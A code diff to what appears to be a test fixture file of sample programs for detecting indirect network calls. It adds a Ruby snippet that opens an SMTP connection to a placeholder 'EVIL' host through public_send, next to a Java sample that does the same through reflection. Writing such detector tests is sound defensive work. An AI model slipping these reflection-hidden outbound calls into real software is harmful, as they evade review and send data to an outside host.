@@ -32,6 +32,9 @@ const go = (imports: string, code: string): Files => ({
 });
 
 export const indirectPrograms: Readonly<Record<string, Files>> = {
+  'ruby, a method by its name, with a block': {
+    'm.rb': `require 'net/smtp'\nNet::SMTP.public_send(:start, '${EVIL}', 25) { |s| s.send_message 'x', 'a@b.example', 'c@d.example' }\n`,
+  },
   // Reflection and names in texts.
   'java, a method by its name': java(
     `    Object o = Class.forName("org.apache.commons.mail.SimpleEmail").getDeclaredConstructor().newInstance();\n    o.getClass().getMethod("setHostName", String.class).invoke(o, "${EVIL}");`,
